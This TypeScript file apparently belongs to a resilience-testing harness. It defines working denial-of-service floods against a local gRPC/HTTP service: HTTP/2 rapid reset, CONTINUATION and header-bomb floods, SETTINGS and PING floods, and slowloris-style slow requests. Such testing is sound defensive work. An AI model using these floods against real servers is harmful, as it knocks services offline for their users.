// Cheap for the sender and costly for the server: connections, heads without a body, endless streams, control frames.

import { setTimeout as sleep } from "node:timers/promises";
import { CANCEL, callHead, envelope, FLAG, FRAME, frame, literal, PREFACE, settings, uint32 } from "../../frames.ts";
import { CANARY } from "../answers.ts";
import type { Attacker, Case } from "../attacker.ts";
import { open, type RawConnection } from "../raw-connection.ts";

const GET = "/entity.v1.EntityService/GetEntity";

/** Waits for the time, or until the attack is over. */
const hold = (one: Case, ms: number) => sleep(ms, undefined, { signal: one.over }).catch(() => {});

/** Sends the same bytes again and again, a mebibyte a second at most. */
async function pour(one: Case, connection: RawConnection, bytes: Buffer, each: number, forMs: number): Promise<void> {
  const until = performance.now() + forMs;
  while (performance.now() < until && !one.over.aborted) {
    if (!(await connection.send(bytes))) break;
    one.sent(each);
    await hold(one, Math.max(1, (bytes.length / 1_048_576) * 1_000));
  }
  one.ended(connection.isClosed() ? "closed" : "open");
}

const many = (one: Buffer, count: number) => Buffer.alloc(one.length * count, one);

const FLOODS: Record<string, (one: Case) => Promise<void>> = {
  async connections(one) {
    const made = await Promise.all(Array.from({ length: 60 }, () => open(one.port).catch(() => undefined)));
    one.sent(made.length);
    await hold(one, one.random.int(50, 2_000));
    for (const connection of made) connection?.[Symbol.dispose]();
    one.ended("closed");
  },
  async heads(one) {
    using connection = await open(one.port);
    const key = one.random.chance(0.5) ? one.party.keys.all : `${CANARY}${one.random.word(20)}`;
    await connection.send(Buffer.concat([PREFACE, settings()]));
    for (let i = 0; i < 100; i++)
      await connection.send(frame(FRAME.HEADERS, FLAG.END_HEADERS, 1 + 2 * i, callHead(GET, key)));
    one.sent(100);
    await hold(one, one.random.int(500, 4_000));
    one.ended(connection.isClosed() ? "closed" : "open");
  },
  async "endless bodies"(one) {
    // Bytes of a message that is never complete, one at a time.
    using connection = await open(one.port);
    const path = one.random.pick([GET, "/entity.v1.EntityService/ImportEntities", "/grpc.health.v1.Health/Check"]);
    const start = Array.from({ length: 50 }, (_, i) => [
      frame(FRAME.HEADERS, FLAG.END_HEADERS, 1 + 2 * i, callHead(path, one.party.keys.all)),
      frame(FRAME.DATA, 0, 1 + 2 * i, Buffer.from([0, 0, 15, 255, 255])),
    ]).flat();
    await connection.send(
      Buffer.concat([PREFACE, settings(), frame(FRAME.WINDOW_UPDATE, 0, 0, uint32(2 ** 30)), ...start]),
    );
    one.sent(50);
    const bytes = Buffer.concat(
      Array.from({ length: 50 }, (_, i) => frame(FRAME.DATA, 0, 1 + 2 * i, Buffer.from([1]))),
    );
    await pour(one, connection, many(bytes, 20), 1_000, 3_000);
  },
  async settings(one) {
    using connection = await open(one.port);
    await connection.send(Buffer.concat([PREFACE, settings()]));
    await pour(
      one,
      connection,
      many(
        settings([
          [4, one.random.pick([0, 1, 65_535])],
          [1, one.random.pick([0, 4_096, 2 ** 32 - 1])],
        ]),
        500,
      ),
      500,
      1_500,
    );
  },
  async pings(one) {
    using connection = await open(one.port, one.random.chance(0.5));
    await connection.send(Buffer.concat([PREFACE, settings()]));
    await pour(one, connection, many(frame(FRAME.PING, 0, 0, Buffer.alloc(8)), 1_000), 1_000, 1_500);
  },
  async "window updates"(one) {
    using connection = await open(one.port);
    await connection.send(
      Buffer.concat([
        PREFACE,
        settings(),
        frame(FRAME.HEADERS, FLAG.END_HEADERS, 1, callHead(GET, one.party.keys.all)),
      ]),
    );
    await pour(
      one,
      connection,
      many(
        frame(FRAME.WINDOW_UPDATE, 0, one.random.pick([0, 1, 3]), uint32(one.random.pick([0, 1, 2 ** 31 - 1]))),
        1_000,
      ),
      1_000,
      1_500,
    );
  },
  async priorities(one) {
    using connection = await open(one.port);
    await connection.send(Buffer.concat([PREFACE, settings()]));
    const frames = Array.from({ length: 1_000 }, (_, i) =>
      frame(FRAME.PRIORITY, 0, 1 + 2 * i, Buffer.concat([uint32(i % 7), Buffer.from([i % 256])])),
    );
    await pour(one, connection, Buffer.concat(frames), 1_000, 1_500);
  },
  async continuations(one) {
    using connection = await open(one.port);
    await connection.send(Buffer.concat([PREFACE, settings(), frame(FRAME.HEADERS, 0, 1, callHead(GET, CANARY))]));
    const piece = literal(`x-${one.random.word(4)}`, one.random.chance(0.5) ? "" : "a".repeat(1_000));
    await pour(one, connection, many(frame(FRAME.CONTINUATION, 0, 1, piece), 200), 200, 1_500);
  },
  async "rapid reset"(one) {
    using connection = await open(one.port);
    await connection.send(Buffer.concat([PREFACE, settings()]));
    const key = one.random.pick([one.party.keys.all, `${CANARY}${one.random.word(20)}`, undefined]);
    const path = one.random.pick([
      GET,
      "/grpc.health.v1.Health/Watch",
      "/entity.v1.EntityService/WatchEntities",
      "/metrics",
    ]);
    for (let i = 0; i < 2_000 && !one.over.aborted; i += 50) {
      const frames: Buffer[] = [];
      for (let j = i; j < i + 50; j++) {
        frames.push(frame(FRAME.HEADERS, FLAG.END_HEADERS, 1 + 2 * j, callHead(path, key)));
        if (j % 2 === 0) frames.push(frame(FRAME.DATA, FLAG.END_STREAM, 1 + 2 * j, envelope(Buffer.alloc(0))));
        frames.push(frame(FRAME.RST_STREAM, 0, 1 + 2 * j, CANCEL));
      }
      if (!(await connection.send(Buffer.concat(frames)))) break;
      one.sent(50);
      await hold(one, 20);
    }
    one.ended(connection.isClosed() ? "closed" : "open");
  },
  async "header bombs"(one) {
    // One large entry in the table, named again and again.
    using connection = await open(one.port);
    const block = Buffer.concat([
      callHead(GET, one.party.keys.all),
      literal("x", "a".repeat(3_900), true),
      Buffer.alloc(one.random.pick([100, 1_000, 8_000]), 0xbe),
    ]);
    await connection.send(Buffer.concat([PREFACE, settings()]));
    for (let i = 0; i < 20; i++) {
      if (!(await connection.send(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, 1 + 2 * i, block)))) break;
      one.sent(1);
      await hold(one, 10);
    }
    one.ended(connection.isClosed() ? "closed" : "open");
  },
  async "large heads"(one) {
    using connection = await open(one.port);
    await connection.send(Buffer.concat([PREFACE, settings()]));
    const value = one.random.pick([15_000, 17_000, 60_000, 200_000]);
    const block = Buffer.concat([callHead(GET, one.party.keys.all), literal("x-actor-id", "a".repeat(value))]);
    for (let i = 0; i < 10; i++) {
      const parts: Buffer[] = [];
      for (let at = 0; at < block.length; at += 16_000) {
        const last = at + 16_000 >= block.length ? FLAG.END_HEADERS : 0;
        parts.push(
          frame(
            at === 0 ? FRAME.HEADERS : FRAME.CONTINUATION,
            last | (at === 0 ? FLAG.END_STREAM : 0),
            1 + 2 * i,
            block.subarray(at, at + 16_000),
          ),
        );
      }
      if (!(await connection.send(Buffer.concat(parts)))) break;
      one.sent(1);
    }
    await hold(one, 50);
    one.ended(connection.isClosed() ? "closed" : "open");
  },
  async "slow heads"(one) {
    // HTTP/1.1, a header a second.
    const made = await Promise.all(Array.from({ length: 30 }, () => open(one.port).catch(() => undefined)));
    for (const connection of made) await connection?.send(Buffer.from(`POST ${GET} HTTP/1.1\r\nHost: a\r\n`));
    one.sent(made.length);
    for (let i = 0; i < 12 && !one.over.aborted; i++) {
      await hold(one, 1_000);
      for (const connection of made) await connection?.send(Buffer.from(`X-${i}: a\r\n`));
    }
    one.ended(made.every((connection) => connection?.isClosed() !== false) ? "closed" : "open");
    for (const connection of made) connection?.[Symbol.dispose]();
  },
  async "slow bodies"(one) {
    const made = await Promise.all(Array.from({ length: 30 }, () => open(one.port).catch(() => undefined)));
    const head = `POST ${GET} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 1000\r\nAuthorization: Bearer ${one.party.keys.all}\r\n\r\n`;
    for (const connection of made) await connection?.send(Buffer.from(head));
    one.sent(made.length);
    for (let i = 0; i < 12 && !one.over.aborted; i++) {
      await hold(one, 1_000);
      for (const connection of made) await connection?.send(Buffer.from(" "));
    }
    one.ended(made.every((connection) => connection?.isClosed() !== false) ? "closed" : "open");
    for (const connection of made) connection?.[Symbol.dispose]();
  },
  async pipeline(one) {
    // HTTP/1.1 requests behind each other, whose answers nobody waits for.
    using connection = await open(one.port, one.random.chance(0.7));
    const path = one.random.pick([GET, "/metrics", "/grpc.health.v1.Health/Check", "/healthz", "/"]);
    const request = `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nAuthorization: Bearer ${one.party.keys.all}\r\nContent-Length: 38\r\n\r\n{"lookup":{"externalId":"small-1"}}   `;
    const count = one.random.pick([10, 300, 1_500]);
    await connection.send(Buffer.from(request.repeat(count)));
    one.sent(count);
    await hold(one, 1_000);
    one.ended(connection.isClosed() ? "closed" : "open");
  },
  async "half-open"(one) {
    const made = await Promise.all(Array.from({ length: 20 }, () => open(one.port, false).catch(() => undefined)));
    for (const connection of made) {
      await connection?.send(
        one.random.chance(0.5) ? Buffer.concat([PREFACE, settings()]) : Buffer.from("POST / HTTP/1.1\r\n"),
      );
      connection?.socket.end();
    }
    one.sent(made.length);
    await hold(one, 2_000);
    one.ended("held");
    for (const connection of made) connection?.[Symbol.dispose]();
  },
  async metrics(one) {
    using connection = await open(one.port);
    await connection.send(Buffer.from("GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n".repeat(20)));
    one.sent(20);
    await hold(one, 500);
    one.ended("sent");
  },
};

/** A separate attacker for each kind, so that its name says what was sent. */
export const floodAttackers: Attacker[] = Object.entries(FLOODS).map(([name, attack]) => ({
  name: name.replaceAll(" ", "-"),
  perSecond: 2,
  atOnce: 2,
  attack,
}));
